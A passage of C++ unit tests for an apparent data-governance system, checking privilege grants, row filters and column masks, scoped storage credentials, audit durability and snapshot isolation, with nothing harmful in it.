  EXPECT_TRUE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  ASSERT_TRUE(
      catalog_.Revoke("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  EXPECT_FALSE(catalog_.HasPrivilege("alice", "main.s.t", Privilege::kSelect));
  EXPECT_TRUE(catalog_.Revoke("admin", "main.s.t", Privilege::kSelect,
                              "alice").IsNotFound());
}

TEST_F(CatalogTest, NonOwnerCannotGrant) {
  EXPECT_TRUE(catalog_.Grant("alice", "main.s.t", Privilege::kSelect, "bob")
                  .IsPermissionDenied());
  // MANAGE delegates granting.
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kManage, "alice").ok());
  EXPECT_TRUE(
      catalog_.Grant("alice", "main.s.t", Privilege::kSelect, "bob").ok());
}

TEST_F(CatalogTest, EffectivePrivilegesEnumerates) {
  GrantReadChain("alice");
  auto privs = catalog_.EffectivePrivileges("alice", "main.s.t");
  EXPECT_TRUE(privs.count(Privilege::kSelect));
  EXPECT_FALSE(privs.count(Privilege::kModify));
}

// ---- Policies ----------------------------------------------------------------------------

TEST_F(CatalogTest, PoliciesRequireManage) {
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  EXPECT_TRUE(catalog_.SetRowFilter("alice", "main.s.t", rf)
                  .IsPermissionDenied());
  EXPECT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  EXPECT_TRUE(catalog_.ClearRowFilter("admin", "main.s.t").ok());
}

TEST_F(CatalogTest, MaskValidatesColumn) {
  ColumnMaskPolicy mask;
  mask.column = "no_such_column";
  mask.mask_expr = *ParseSqlExpr("REDACT(x)");
  EXPECT_TRUE(
      catalog_.AddColumnMask("admin", "main.s.t", mask).IsInvalidArgument());
  mask.column = "ssn";
  EXPECT_TRUE(catalog_.AddColumnMask("admin", "main.s.t", mask).ok());
}

// ---- Relation resolution -------------------------------------------------------------------

TEST_F(CatalogTest, ResolutionDeniedWithoutSelect) {
  // Without namespace visibility the denial is indistinguishable from
  // absence (existence-oracle hardening): NotFound, not PermissionDenied.
  auto res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  EXPECT_TRUE(res.status().IsNotFound());
  EXPECT_GT(catalog_.audit().DeniedCount(), 0u);

  // With the USE chain (the user may know the table exists) but no SELECT,
  // the denial is explicit.
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  auto res2 = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  EXPECT_TRUE(res2.status().IsPermissionDenied());
}

TEST_F(CatalogTest, DenialWithoutVisibilityMatchesMissingRelation) {
  // The two errors an unprivileged probe can see — denied-but-hidden and
  // truly missing — must be byte-identical modulo the probed name.
  auto hidden = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  auto missing = catalog_.ResolveRelation("alice", Standard(), "main.s.zzz");
  ASSERT_TRUE(hidden.status().IsNotFound());
  ASSERT_TRUE(missing.status().IsNotFound());
  EXPECT_EQ(hidden.status().message(),
            "relation 'main.s.t' does not exist or is not visible to you");
  EXPECT_EQ(missing.status().message(),
            "relation 'main.s.zzz' does not exist or is not visible to you");
  // The audit trail still records the true reasons, distinctly.
  auto events = catalog_.audit().ForPrincipal("alice");
  ASSERT_GE(events.size(), 2u);
}

TEST_F(CatalogTest, PlainTableResolvesLocallyWithToken) {
  GrantReadChain("alice");
  auto res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kLocal);
  EXPECT_FALSE(res->read_token.empty());
  // The vended token really is user-bound and scoped to the table root.
  auto who = authority_.Authorize(res->read_token,
                                  "mem://metastore/main/s/t/part-0",
                                  StorageOp::kRead);
  ASSERT_TRUE(who.ok());
  EXPECT_EQ(*who, "alice");
  EXPECT_TRUE(authority_
                  .Authorize(res->read_token, "mem://metastore/main/s/u/x",
                             StorageOp::kRead)
                  .status()
                  .IsPermissionDenied());
}

TEST_F(CatalogTest, FgacTableOnStandardReleasesPolicies) {
  GrantReadChain("alice");
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  auto res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kLocal);
  ASSERT_TRUE(res->row_filter.has_value());
  EXPECT_FALSE(res->read_token.empty());
}

TEST_F(CatalogTest, FgacTableOnPrivilegedComputeGoesExternal) {
  GrantReadChain("alice");
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  auto res = catalog_.ResolveRelation("alice", Dedicated(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kExternal);
  // §3.4: no predicate, no mask, no credential, no storage root leak.
  EXPECT_FALSE(res->row_filter.has_value());
  EXPECT_TRUE(res->column_masks.empty());
  EXPECT_TRUE(res->read_token.empty());
  EXPECT_TRUE(res->table.storage_root.empty());
}

TEST_F(CatalogTest, PlainTableOnPrivilegedComputeStaysLocal) {
  GrantReadChain("alice");
  auto res = catalog_.ResolveRelation("alice", Dedicated(), "main.s.t");
  ASSERT_TRUE(res.ok());
  EXPECT_EQ(res->enforcement, EnforcementMode::kLocal);
  EXPECT_FALSE(res->read_token.empty());
}

TEST_F(CatalogTest, MaskExemptGroupsDropTheMask) {
  GrantReadChain("alice");
  GrantReadChain("analysts");
  ColumnMaskPolicy mask;
  mask.column = "ssn";
  mask.mask_expr = *ParseSqlExpr("MASK(ssn)");
  mask.exempt_groups = {"analysts"};
  ASSERT_TRUE(catalog_.AddColumnMask("admin", "main.s.t", mask).ok());
  auto alice_res = catalog_.ResolveRelation("alice", Standard(), "main.s.t");
  ASSERT_TRUE(alice_res.ok());
  EXPECT_EQ(alice_res->column_masks.size(), 1u);
  auto bob_res = catalog_.ResolveRelation("bob", Standard(), "main.s.t");
  ASSERT_TRUE(bob_res.ok());
  EXPECT_TRUE(bob_res->column_masks.empty());  // bob is in analysts
}

TEST_F(CatalogTest, ViewResolution) {
  ViewInfo v;
  v.full_name = "main.s.v";
  v.sql_text = "SELECT amount FROM main.s.t";
  ASSERT_TRUE(catalog_.CreateView("admin", v).ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.v", Privilege::kSelect, "alice").ok());
  auto std_res = catalog_.ResolveRelation("alice", Standard(), "main.s.v");
  ASSERT_TRUE(std_res.ok());
  EXPECT_EQ(std_res->type, SecurableType::kView);
  EXPECT_EQ(std_res->enforcement, EnforcementMode::kLocal);
  auto ded_res = catalog_.ResolveRelation("alice", Dedicated(), "main.s.v");
  ASSERT_TRUE(ded_res.ok());
  EXPECT_EQ(ded_res->enforcement, EnforcementMode::kExternal);
}

// ---- Group down-scoping (§4.2) ------------------------------------------------------------

TEST_F(CatalogTest, DownscopeReducesToGroupPermissions) {
  GrantReadChain("alice");  // alice personally has access
  ComputeContext group_ctx = Dedicated();
  group_ctx.downscope_group = "analysts";  // but the cluster is ml_team's
  // The down-scoped group lacks even the USE chain, so the table is not
  // visible at all from this cluster.
  auto res = catalog_.ResolveRelation("alice", group_ctx, "main.s.t");
  EXPECT_TRUE(res.status().IsNotFound());

  // Once the GROUP holds the grants, any member (and attached alice) works.
  GrantReadChain("analysts");
  auto res2 = catalog_.ResolveRelation("alice", group_ctx, "main.s.t");
  EXPECT_TRUE(res2.ok());
}

TEST_F(CatalogTest, DownscopeDisablesAdminBypass) {
  ComputeContext group_ctx = Standard();
  group_ctx.downscope_group = "analysts";
  // Down-scoped to a group with no grants at all, even the admin loses
  // namespace visibility: NotFound, not a privilege error.
  auto res = catalog_.ResolveRelation("admin", group_ctx, "main.s.t");
  EXPECT_TRUE(res.status().IsNotFound());
}

TEST_F(CatalogTest, AuditKeepsOriginalIdentityUnderDownscope) {
  GrantReadChain("analysts");
  ComputeContext group_ctx = Standard();
  group_ctx.downscope_group = "analysts";
  ASSERT_TRUE(
      catalog_.ResolveRelation("bob", group_ctx, "main.s.t").ok());
  auto events = catalog_.audit().ForPrincipal("bob");
  ASSERT_FALSE(events.empty());
  EXPECT_EQ(events.back().action, "RESOLVE_RELATION");
  EXPECT_TRUE(events.back().allowed);
}

// ---- Credential vending ----------------------------------------------------------------------

TEST_F(CatalogTest, WriteCredentialNeedsModify) {
  GrantReadChain("alice");
  EXPECT_TRUE(catalog_.VendWriteCredential("alice", Standard(), "main.s.t")
                  .status()
                  .IsPermissionDenied());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kModify, "alice").ok());
  auto cred = catalog_.VendWriteCredential("alice", Standard(), "main.s.t");
  ASSERT_TRUE(cred.ok());
  EXPECT_TRUE(cred->allow_write);
}

TEST_F(CatalogTest, WriteCredentialDeniedOnPrivilegedFgac) {
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kModify, "alice").ok());
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  EXPECT_TRUE(catalog_.VendWriteCredential("alice", Dedicated(), "main.s.t")
                  .status()
                  .IsPermissionDenied());
  EXPECT_TRUE(
      catalog_.VendWriteCredential("alice", Standard(), "main.s.t").ok());
}

TEST_F(CatalogTest, VolumeCredentials) {
  VolumeInfo vol;
  vol.full_name = "main.s.rawfiles";
  vol.storage_prefix = "mem://landing/raw/";
  ASSERT_TRUE(catalog_.CreateVolume("admin", vol).ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  EXPECT_TRUE(catalog_.VendVolumeCredential("alice", Standard(),
                                            "main.s.rawfiles", false)
                  .status()
                  .IsPermissionDenied());
  ASSERT_TRUE(catalog_.Grant("admin", "main.s.rawfiles",
                             Privilege::kReadVolume, "alice").ok());
  auto cred = catalog_.VendVolumeCredential("alice", Standard(),
                                            "main.s.rawfiles", false);
  ASSERT_TRUE(cred.ok());
  EXPECT_FALSE(cred->allow_write);
}

// ---- Functions -----------------------------------------------------------------------------

TEST_F(CatalogTest, FunctionExecutionRequiresExecute) {
  FunctionInfo fn;
  fn.full_name = "main.s.f";
  fn.num_args = 2;
  fn.return_type = TypeKind::kInt64;
  fn.body.name = "f";
  fn.body.num_args = 2;
  fn.body.code = {{OpCode::kLoadArg, 0, 0},
                  {OpCode::kLoadArg, 1, 0},
                  {OpCode::kAdd, 0, 0},
                  {OpCode::kReturn, 0, 0}};
  ASSERT_TRUE(catalog_.CreateFunction("admin", fn).ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main", Privilege::kUseCatalog, "alice").ok());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s", Privilege::kUseSchema, "alice").ok());
  EXPECT_TRUE(catalog_.ResolveFunction("alice", Standard(), "main.s.f")
                  .status()
                  .IsPermissionDenied());
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.f", Privilege::kExecute, "alice").ok());
  auto resolved = catalog_.ResolveFunction("alice", Standard(), "main.s.f");
  ASSERT_TRUE(resolved.ok());
  EXPECT_EQ(resolved->owner, "admin");  // trust domain
}

TEST_F(CatalogTest, InvalidFunctionBodyRejected) {
  FunctionInfo fn;
  fn.full_name = "main.s.broken";
  fn.body.name = "broken";
  EXPECT_TRUE(catalog_.CreateFunction("admin", fn).IsInvalidArgument());
}

// ---- Audit ---------------------------------------------------------------------------------

TEST_F(CatalogTest, AuditCapturesDecisions) {
  size_t before = catalog_.audit().size();
  (void)catalog_.ResolveRelation("alice", Standard(), "main.s.t");  // denied
  GrantReadChain("alice");
  (void)catalog_.ResolveRelation("alice", Standard(), "main.s.t");  // allowed
  auto events = catalog_.audit().ForSecurable("main.s.t");
  EXPECT_GE(catalog_.audit().size(), before + 2);
  bool saw_denied = false, saw_allowed = false;
  for (const AuditEvent& e : events) {
    if (e.action == "RESOLVE_RELATION") {
      (e.allowed ? saw_allowed : saw_denied) = true;
    }
  }
  EXPECT_TRUE(saw_denied);
  EXPECT_TRUE(saw_allowed);
}

// ---- Snapshot / epoch lifecycle ------------------------------------------------------------

TEST_F(CatalogTest, EpochAdvancesOnEveryPublishedMutation) {
  uint64_t e0 = catalog_.epoch();
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  uint64_t e1 = catalog_.epoch();
  EXPECT_EQ(e1, e0 + 1);
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  EXPECT_EQ(catalog_.epoch(), e1 + 1);
  // Failed mutations publish nothing.
  EXPECT_TRUE(catalog_.CreateCatalog("alice", "rogue").IsPermissionDenied());
  EXPECT_EQ(catalog_.epoch(), e1 + 1);
  // Reads do not advance the epoch.
  (void)catalog_.InspectPolicies("alice", Standard(), "main.s.t");
  (void)catalog_.GetTable("main.s.t");
  EXPECT_EQ(catalog_.epoch(), e1 + 1);
}

TEST_F(CatalogTest, InspectionCarriesItsSnapshotEpoch) {
  GrantReadChain("alice");
  PolicyInspection before =
      catalog_.InspectPolicies("alice", Standard(), "main.s.t");
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");
  ASSERT_TRUE(catalog_.SetRowFilter("admin", "main.s.t", rf).ok());
  PolicyInspection after =
      catalog_.InspectPolicies("alice", Standard(), "main.s.t");
  EXPECT_EQ(after.epoch, before.epoch + 1);
  EXPECT_FALSE(before.row_filter.has_value());
  EXPECT_TRUE(after.row_filter.has_value());
}

TEST_F(CatalogTest, SetTablePoliciesReplacesWholeSetAtomically) {
  GrantReadChain("alice");
  ColumnMaskPolicy m1;
  m1.column = "ssn";
  m1.mask_expr = *ParseSqlExpr("MASK(ssn)");
  ASSERT_TRUE(catalog_.AddColumnMask("admin", "main.s.t", m1).ok());

  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'EU'");
  ColumnMaskPolicy m2 = m1;
  ColumnMaskPolicy m3;
  m3.column = "region";
  m3.mask_expr = *ParseSqlExpr("REDACT(region)");
  uint64_t e0 = catalog_.epoch();
  ASSERT_TRUE(
      catalog_.SetTablePolicies("admin", "main.s.t", rf, {m2, m3}).ok());
  EXPECT_EQ(catalog_.epoch(), e0 + 1);  // one epoch for the whole set
  PolicyInspection p = catalog_.InspectPolicies("alice", Standard(), "main.s.t");
  EXPECT_TRUE(p.row_filter.has_value());
  EXPECT_EQ(p.column_masks.size(), 2u);

  // Non-MANAGE caller cannot touch policies.
  EXPECT_TRUE(catalog_.SetTablePolicies("alice", "main.s.t", std::nullopt, {})
                  .IsPermissionDenied());
  // Bad mask column rejects the whole batch; nothing published.
  ColumnMaskPolicy bad;
  bad.column = "no_such";
  bad.mask_expr = *ParseSqlExpr("MASK(x)");
  uint64_t e1 = catalog_.epoch();
  EXPECT_TRUE(catalog_.SetTablePolicies("admin", "main.s.t", rf, {bad})
                  .IsInvalidArgument());
  EXPECT_EQ(catalog_.epoch(), e1);
}

// Snapshot-isolation stress: a writer churns the whole policy set (and the
// grant set) while readers inspect concurrently. Readers must only ever see
// one of the three legal policy-set generations — never a row filter from
// one epoch combined with masks from another — and the epoch they observe
// must be monotonic. Run under LAKEGUARD_SANITIZE=thread this also proves
// the publish/pin protocol race-free.
TEST_F(CatalogTest, SnapshotIsolationUnderConcurrentPolicyChurn) {
  GrantReadChain("alice");
  ColumnMaskPolicy mask_ssn;
  mask_ssn.column = "ssn";
  mask_ssn.mask_expr = *ParseSqlExpr("MASK(ssn)");
  ColumnMaskPolicy mask_region;
  mask_region.column = "region";
  mask_region.mask_expr = *ParseSqlExpr("REDACT(region)");
  RowFilterPolicy rf;
  rf.predicate = *ParseSqlExpr("region = 'US'");

  constexpr int kWriterIterations = 200;
  std::atomic<bool> done{false};
  std::atomic<int> violations{0};

  std::thread writer([&] {
    for (int i = 0; i < kWriterIterations; ++i) {
      if (i % 2 == 0) {
        // Generation A: one mask, no filter.
        ASSERT_TRUE(catalog_
                        .SetTablePolicies("admin", "main.s.t", std::nullopt,
                                          {mask_ssn})
                        .ok());
      } else {
        // Generation B: filter plus two masks.
        ASSERT_TRUE(catalog_
                        .SetTablePolicies("admin", "main.s.t", rf,
                                          {mask_ssn, mask_region})
                        .ok());
      }
      // Grant churn rides along: revoke+regrant SELECT for bob's group.
      (void)catalog_.Grant("admin", "main.s.t", Privilege::kSelect,
                           "analysts");
      (void)catalog_.Revoke("admin", "main.s.t", Privilege::kSelect,
                            "analysts");
    }
    done.store(true, std::memory_order_release);
  });

  std::vector<std::thread> readers;
  for (int r = 0; r < 4; ++r) {
    readers.emplace_back([&] {
      uint64_t last_epoch = 0;
      do {
        PolicyInspection p =
            catalog_.InspectPolicies("alice", Standard(), "main.s.t");
        bool initial = !p.row_filter.has_value() && p.column_masks.empty();
        bool gen_a = !p.row_filter.has_value() && p.column_masks.size() == 1;
        bool gen_b = p.row_filter.has_value() && p.column_masks.size() == 2;
        if (!(initial || gen_a || gen_b)) violations.fetch_add(1);
        if (p.epoch < last_epoch) violations.fetch_add(1);
        last_epoch = p.epoch;
        // Grant reads ride the same snapshot machinery.
        (void)catalog_.HasPrivilege("bob", "main.s.t", Privilege::kSelect);
      } while (!done.load(std::memory_order_acquire));
    });
  }
  writer.join();
  for (std::thread& t : readers) t.join();
  EXPECT_EQ(violations.load(), 0);
}

// ---- Audit durability (write-ahead ordering) ------------------------------------------------

TEST_F(CatalogTest, CrashCannotDropAcknowledgedGrantAudit) {
  // An acknowledged grant commits its audit record BEFORE the new state is
  // published, so a crash that wipes the async pending queue cannot lose it.
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  // Query-path records are async; they may still sit in the pending queue.
  (void)catalog_.ResolveRelation("bob", Standard(), "main.s.t");
  (void)catalog_.audit().DropPendingForCrashTest();  // the "crash"

  bool saw_grant = false;
  for (const AuditEvent& e : catalog_.audit().ForSecurable("main.s.t")) {
    if (e.action == "GRANT" && e.allowed) saw_grant = true;
  }
  EXPECT_TRUE(saw_grant);
}

TEST_F(CatalogTest, RevokeAuditSurvivesCrashToo) {
  ASSERT_TRUE(
      catalog_.Grant("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  ASSERT_TRUE(
      catalog_.Revoke("admin", "main.s.t", Privilege::kSelect, "alice").ok());
  (void)catalog_.audit().DropPendingForCrashTest();
  bool saw_revoke = false;
  for (const AuditEvent& e : catalog_.audit().ForSecurable("main.s.t")) {
    if (e.action == "REVOKE") saw_revoke = true;
  }
  EXPECT_TRUE(saw_revoke);
}

// ---- AuditLog batching ---------------------------------------------------------------------

TEST(AuditLogTest, QueryHelpersObserveQueuedEvents) {
  SimulatedClock clock;
  AuditLog log(&clock);
  log.Record("u1", "c1", "ACT", "obj", true, "d");
  log.Record("u2", "c1", "ACT", "obj", false);
  EXPECT_EQ(log.size(), 2u);  // size() flushes first
  EXPECT_EQ(log.DeniedCount(), 1u);
  EXPECT_EQ(log.ForPrincipal("u1").size(), 1u);
}

TEST(AuditLogTest, BackpressureFlushesInlineInsteadOfDropping) {
  SimulatedClock clock;
  AuditLog log(&clock);
  const size_t n = AuditLog::kMaxPending * 3 + 7;
  for (size_t i = 0; i < n; ++i) {
    log.Record("u", "c", "ACT", "obj-" + std::to_string(i), true);
  }
  EXPECT_EQ(log.size(), n);  // bounded queue, zero loss
}

TEST(AuditLogTest, DurableRecordPreservesRecordOrder) {
  SimulatedClock clock;
  AuditLog log(&clock);
  log.Record("u", "c", "ASYNC_FIRST", "obj", true);
  log.RecordDurable("u", "c", "DURABLE_SECOND", "obj", true);
  std::vector<AuditEvent> all = log.All();
  ASSERT_EQ(all.size(), 2u);
  EXPECT_EQ(all[0].action, "ASYNC_FIRST");
  EXPECT_EQ(all[1].action, "DURABLE_SECOND");
}

TEST(AuditLogTest, FlushOnShutdownCommitsEverything) {
  SimulatedClock clock;
  // The destructor must drain the queue; exercised by scope exit. A crash
  // here would surface under ASan/TSan as a leak or race.
  {
    AuditLog log(&clock);
    for (int i = 0; i < 50; ++i) log.Record("u", "c", "ACT", "obj", true);
  }
  SUCCEED();
}

TEST(AuditLogTest, BackgroundFlusherCommitsWithoutQueries) {
  RealClock clock;
  AuditLog log(&clock);
  for (size_t i = 0; i < AuditLog::kMaxPending; ++i) {
    log.Record("u", "c", "ACT", "obj", true);
  }
  // Half-full threshold notifies the flusher; give it a moment.
  for (int spin = 0; spin < 200 && log.flush_batches() == 0; ++spin) {
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  EXPECT_GE(log.flush_batches(), 1u);
}

}  // namespace
}  // namespace lakeguard
