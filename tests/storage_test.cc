// Tests for src/storage: scoped credentials, object store enforcement, and
// the delta-like table format (Fig. 2's user-bound storage access).

#include <gtest/gtest.h>

#include "columnar/table.h"
#include "common/clock.h"
#include "storage/credential.h"
#include "storage/delta_table.h"
#include "storage/object_store.h"

namespace lakeguard {
namespace {

class StorageTest : public ::testing::Test {
 protected:
  StorageTest() : authority_(&clock_), store_(&authority_) {}

  StorageCredential Issue(const std::string& user,
                          std::vector<std::string> prefixes, bool write,
                          int64_t ttl = 1'000'000) {
    return authority_.Issue(user, "cluster-1", std::move(prefixes), write,
                            ttl);
  }

  SimulatedClock clock_;
  CredentialAuthority authority_;
  ObjectStore store_;
};

TEST_F(StorageTest, UnknownTokenRejected) {
  auto got = store_.Get("tok-nonexistent", "mem://b/x");
  EXPECT_TRUE(got.status().IsUnauthenticated());
  EXPECT_EQ(store_.stats().access_denied, 1u);
}

TEST_F(StorageTest, ScopeEnforced) {
  auto cred = Issue("alice", {"mem://bucket/tables/t1/*"}, true);
  EXPECT_TRUE(store_.Put(cred.token_id, "mem://bucket/tables/t1/part-0",
                         {1, 2, 3}).ok());
  auto outside =
      store_.Put(cred.token_id, "mem://bucket/tables/t2/part-0", {1});
  EXPECT_TRUE(outside.IsPermissionDenied());
}

TEST_F(StorageTest, ReadOnlyTokenCannotWrite) {
  auto rw = Issue("admin", {"mem://b/*"}, true);
  ASSERT_TRUE(store_.Put(rw.token_id, "mem://b/obj", {9}).ok());
  auto ro = Issue("alice", {"mem://b/*"}, false);
  EXPECT_TRUE(store_.Get(ro.token_id, "mem://b/obj").ok());
  EXPECT_TRUE(store_.Put(ro.token_id, "mem://b/obj", {1}).IsPermissionDenied());
  EXPECT_TRUE(store_.Delete(ro.token_id, "mem://b/obj").IsPermissionDenied());
}

TEST_F(StorageTest, ExpiryEnforcedOnTheClock) {
  auto cred = Issue("alice", {"mem://b/*"}, true, /*ttl=*/1000);
  ASSERT_TRUE(store_.Put(cred.token_id, "mem://b/obj", {1}).ok());
  clock_.AdvanceMicros(2000);
  EXPECT_TRUE(
      store_.Get(cred.token_id, "mem://b/obj").status().IsUnauthenticated());
}

TEST_F(StorageTest, RevocationImmediate) {
  auto cred = Issue("alice", {"mem://b/*"}, false);
  authority_.Revoke(cred.token_id);
  EXPECT_TRUE(
      store_.Get(cred.token_id, "mem://b/x").status().IsUnauthenticated());
}

TEST_F(StorageTest, AuthorizeReturnsPrincipal) {
  auto cred = Issue("alice", {"mem://b/*"}, false);
  auto who = authority_.Authorize(cred.token_id, "mem://b/x", StorageOp::kRead);
  ASSERT_TRUE(who.ok());
  EXPECT_EQ(*who, "alice");
}

TEST_F(StorageTest, ListRespectsPrefix) {
  auto cred = Issue("admin", {"mem://b/*"}, true);
  ASSERT_TRUE(store_.Put(cred.token_id, "mem://b/t/1", {1}).ok());
  ASSERT_TRUE(store_.Put(cred.token_id, "mem://b/t/2", {2}).ok());
  ASSERT_TRUE(store_.Put(cred.token_id, "mem://b/u/3", {3}).ok());
  auto listed = store_.List(cred.token_id, "mem://b/t/");
  ASSERT_TRUE(listed.ok());
  EXPECT_EQ(listed->size(), 2u);
}

TEST_F(StorageTest, StatsTrackBytes) {
  auto cred = Issue("admin", {"mem://b/*"}, true);
  ASSERT_TRUE(store_.Put(cred.token_id, "mem://b/obj", {1, 2, 3, 4}).ok());
  ASSERT_TRUE(store_.Get(cred.token_id, "mem://b/obj").ok());
  auto stats = store_.stats();
  EXPECT_EQ(stats.bytes_written, 4u);
  EXPECT_EQ(stats.bytes_read, 4u);
  EXPECT_EQ(stats.writes, 1u);
  EXPECT_EQ(stats.reads, 1u);
}

// ---- Delta-like table format -----------------------------------------------------

class DeltaTest : public StorageTest {
 protected:
  DeltaTest() : format_(&store_) {
    cred_ = Issue("admin", {"mem://meta/*"}, true, 1LL << 40);
  }

  Table MakeRows(std::vector<int64_t> xs) {
    Schema schema({{"x", TypeKind::kInt64, true}});
    TableBuilder builder(schema);
    for (int64_t x : xs) {
      EXPECT_TRUE(builder.AppendRow({Value::Int(x)}).ok());
      builder.FinishBatch();  // one part per row: exercises multi-part reads
    }
    return builder.Build();
  }

  DeltaTableFormat format_;
  StorageCredential cred_;
};

TEST_F(DeltaTest, CreateAndRead) {
  ASSERT_TRUE(
      format_.CreateTable(cred_.token_id, "mem://meta/t", MakeRows({1, 2, 3}))
          .ok());
  auto table = format_.ReadTable(cred_.token_id, "mem://meta/t");
  ASSERT_TRUE(table.ok());
  EXPECT_EQ(table->num_rows(), 3u);
}

TEST_F(DeltaTest, CreateTwiceFails) {
  ASSERT_TRUE(
      format_.CreateTable(cred_.token_id, "mem://meta/t", MakeRows({1})).ok());
  EXPECT_TRUE(format_.CreateTable(cred_.token_id, "mem://meta/t",
                                  MakeRows({2}))
                  .code() == StatusCode::kAlreadyExists);
}

TEST_F(DeltaTest, AppendCreatesNewVersion) {
  ASSERT_TRUE(
      format_.CreateTable(cred_.token_id, "mem://meta/t", MakeRows({1, 2}))
          .ok());
  ASSERT_TRUE(
      format_.AppendToTable(cred_.token_id, "mem://meta/t", MakeRows({3}))
          .ok());
  auto manifest = format_.LoadManifest(cred_.token_id, "mem://meta/t");
  ASSERT_TRUE(manifest.ok());
  EXPECT_EQ(manifest->version, 1u);
  EXPECT_EQ(manifest->TotalRows(), 3u);

  // Time travel to version 0.
  auto v0 = format_.LoadManifestVersion(cred_.token_id, "mem://meta/t", 0);
  ASSERT_TRUE(v0.ok());
  EXPECT_EQ(v0->TotalRows(), 2u);
}

TEST_F(DeltaTest, AppendSchemaMismatchRejected) {
  ASSERT_TRUE(
      format_.CreateTable(cred_.token_id, "mem://meta/t", MakeRows({1})).ok());
  Table wrong(Schema({{"y", TypeKind::kString, true}}));
  EXPECT_TRUE(format_.AppendToTable(cred_.token_id, "mem://meta/t", wrong)
                  .IsInvalidArgument());
}

TEST_F(DeltaTest, ReadWithForeignTokenDenied) {
  ASSERT_TRUE(
      format_.CreateTable(cred_.token_id, "mem://meta/t", MakeRows({1})).ok());
  auto other = Issue("mallory", {"mem://elsewhere/*"}, false);
  auto got = format_.ReadTable(other.token_id, "mem://meta/t");
  EXPECT_TRUE(got.status().IsPermissionDenied());
}

TEST_F(DeltaTest, MissingTableIsNotFound) {
  EXPECT_TRUE(format_.ReadTable(cred_.token_id, "mem://meta/nope")
                  .status()
                  .IsNotFound());
}

TEST_F(DeltaTest, EmptyTableRoundTrips) {
  Table empty(Schema({{"x", TypeKind::kInt64, true}}));
  ASSERT_TRUE(
      format_.CreateTable(cred_.token_id, "mem://meta/empty", empty).ok());
  auto table = format_.ReadTable(cred_.token_id, "mem://meta/empty");
  ASSERT_TRUE(table.ok());
  EXPECT_EQ(table->num_rows(), 0u);
  EXPECT_EQ(table->schema().num_fields(), 1u);
}

}  // namespace
}  // namespace lakeguard
