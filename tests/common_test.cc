// Unit tests for src/common: Status/Result, serde, SHA-256, strings, clock,
// id generation.

#include <gtest/gtest.h>

#include "common/clock.h"
#include "common/id.h"
#include "common/serde.h"
#include "common/sha256.h"
#include "common/status.h"
#include "common/strings.h"

namespace lakeguard {
namespace {

// ---- Status / Result ---------------------------------------------------------

TEST(StatusTest, OkByDefault) {
  Status s;
  EXPECT_TRUE(s.ok());
  EXPECT_EQ(s.code(), StatusCode::kOk);
  EXPECT_EQ(s.ToString(), "ok");
}

TEST(StatusTest, ErrorCarriesCodeAndMessage) {
  Status s = Status::PermissionDenied("no SELECT");
  EXPECT_FALSE(s.ok());
  EXPECT_TRUE(s.IsPermissionDenied());
  EXPECT_EQ(s.message(), "no SELECT");
  EXPECT_EQ(s.ToString(), "permission_denied: no SELECT");
}

TEST(StatusTest, WithContextPrefixes) {
  Status s = Status::NotFound("table t").WithContext("resolving plan");
  EXPECT_TRUE(s.IsNotFound());
  EXPECT_EQ(s.message(), "resolving plan: table t");
}

TEST(StatusTest, WithContextOnOkIsNoop) {
  EXPECT_TRUE(Status::OK().WithContext("ctx").ok());
}

TEST(StatusTest, AllCodesHaveNames) {
  for (int c = 0; c <= static_cast<int>(StatusCode::kInternal); ++c) {
